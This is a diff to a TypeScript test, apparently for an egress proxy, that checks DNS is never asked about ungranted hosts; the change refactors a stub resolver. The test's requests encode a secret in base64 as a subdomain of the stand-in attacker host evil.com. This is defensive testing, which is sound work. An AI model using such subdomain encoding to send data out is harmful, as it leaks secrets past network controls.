@@ -73,7 +73,11 @@ describe('resolution', () => {
 
   it('never asks DNS about a host that is not granted, so that names carry nothing out', async () => {
     const asked: string[] = []
-    world = createWorld({ resolver: { resolve: async (host) => (asked.push(host), [PUBLIC_ADDRESS]) } })
+    const resolve = async (host: string) => {
+      asked.push(host)
+      return [PUBLIC_ADDRESS]
+    }
+    world = createWorld({ resolver: { resolve } })
     const { port } = await world.open({ allowed: ALLOW })
     for (const request of ['CONNECT c2VjcmV0.evil.com:443', 'GET http://c2VjcmV0.evil.com/']) {
       const client = await RawClient.connect(port)
